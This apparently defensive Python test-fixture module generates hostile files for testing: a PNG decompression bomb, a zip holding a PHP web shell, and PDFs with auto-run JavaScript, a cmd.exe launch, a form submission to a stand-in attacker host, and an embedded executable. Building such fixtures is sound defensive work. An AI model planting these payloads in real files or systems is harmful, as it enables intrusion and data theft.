"""Files that attack, made when a test runs: nothing dangerous lies in the tree."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from PIL import Image

SHENZHEN = {1: "N", 2: (22.0, 32.0, 0.0), 3: "E", 4: (114.0, 3.0, 0.0)}


def photograph(
    *, size: tuple[int, int] = (64, 48), gps: bool = True, turned: bool = False
) -> bytes:
    """Return a JPEG as a phone makes it, with position and orientation."""
    exif = Image.Exif()
    exif[0x010F] = "CANARY-CAMERA"
    if turned:
        exif[0x0112] = 6
    if gps:
        exif.get_ifd(0x8825).update(SHENZHEN)
    file = io.BytesIO()
    picture = Image.linear_gradient("L").resize(size).convert("RGB")
    picture.save(file, "JPEG", exif=exif, comment=b"CANARY-COMMENT")
    return file.getvalue()


def picture(form: str, *, mode: str = "RGB", size: tuple[int, int] = (40, 30)) -> bytes:
    file = io.BytesIO()
    Image.new(mode, size, 0).save(file, form)
    return file.getvalue()


def animated_png() -> bytes:
    file = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), (n * 60, 0, 0)) for n in range(4)]
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    return file.getvalue()


def png_that_claims(width: int, height: int) -> bytes:
    """Return a tiny PNG whose header claims a huge picture."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + content))
        return struct.pack(">I", len(content)) + kind + content + check

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 100_000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("evil.php", "<?php system($_GET['c']); ?> CANARY-PHP")
    return file.getvalue()


def pdf(change: Callable[[Pdf], None] | None = None, *, pages: int = 1, **save: object) -> bytes:
    """Return a small PDF, changed by `change` before it is saved."""
    made = Pdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(200, 200))
        made.pages[-1].obj.Contents = Stream(made, b"0 0 1 rg 20 20 60 60 re f")
    if change:
        change(made)
    file = io.BytesIO()
    made.save(file, **save)  # type: ignore[arg-type]
    return file.getvalue()


def encrypted_pdf(*, user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", user=user))


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def opens_with_script(made: Pdf) -> None:
    made.Root.OpenAction = _script()


def script_in_a_direct_dictionary(made: Pdf) -> None:
    """Hide the script in nested direct values, with no numbered object of its own."""
    made.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.GoTo, Next=Array([_script()])))


def script_in_the_name_tree(made: Pdf) -> None:
    made.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("x"), made.make_indirect(_script())]))
    )


def launches_a_program(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def submits_a_form(made: Pdf) -> None:
    made.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))


def xfa_form(made: Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=String("<xdp/>"))


def carries_a_program(made: Pdf) -> None:
    made.attachments["invoice.exe"] = b"MZ CANARY-EXE"


def attaches_by_annotation(made: Pdf) -> None:
    file = made.make_indirect(Stream(made, b"MZ"))
    made.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=Array([0, 0, 9, 9]),
                FS=Dictionary(EF=Dictionary(F=file)),
            )
        ]
    )


def huge_picture_inside(made: Pdf) -> None:
    image = Stream(made, b"\0" * 10)
    image.stream_dict = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=50_000,
        Height=50_000,
        ColorSpace=Name.DeviceGray,
        BitsPerComponent=8,
    )
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=made.make_indirect(image)))


def photograph_inside(made: Pdf) -> None:
    image = Stream(made, photograph())
    image.stream_dict = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=64,
        Height=48,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(I=made.make_indirect(image)))
    made.pages[0].obj.Contents = Stream(made, b"64 0 0 48 0 0 cm /I Do")


def hidden_words(made: Pdf) -> None:
    """Leave metadata, a private note and an unseen link, none of which shows on a page."""
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = ["CANARY-AUTHOR"]
    made.docinfo["/Author"] = "CANARY-AUTHOR"
    made.pages[0].obj.PieceInfo = Dictionary(X=String("CANARY-PIECE"))
    made.pages[0].obj.Annots = Array(
        [
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([0, 0, 9, 9]),
                A=Dictionary(S=Name.URI, URI=String("https://canary.example")),
            )
        ]
    )


def filled_form(made: Pdf) -> None:
    """Fill a form field whose words are drawn by its own appearance."""
    look = Stream(made, b"BT /F1 12 Tf (FILLED-IN) Tj ET")
    look.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 100, 20]), Resources=Dictionary()
    )
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Sig,
            T=String("name"),
            Rect=Array([10, 10, 110, 30]),
            AP=Dictionary(N=made.make_indirect(look)),
            F=4,
        )
    )
    made.pages[0].obj.Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]))
